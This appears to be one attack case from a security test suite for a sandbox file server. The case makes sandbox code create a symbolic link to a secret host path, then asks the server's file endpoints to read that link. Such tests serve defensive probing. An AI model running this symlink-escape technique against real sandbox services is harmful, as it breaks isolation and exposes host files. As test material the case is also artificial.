# aim: read a file of the server's machine
# mechanism: a symbolic link that code in the sandbox has made, read by the server
# server: files
# plain: naive

def attack():
    run(f"import os\nos.symlink({secret_path!r}, 'link')")
    ask("GET", f"{here}/files/content?path=link")
    ask("GET", "/files?path=link", E2b_Sandbox_Id=mine.sandbox)


judge(attack)
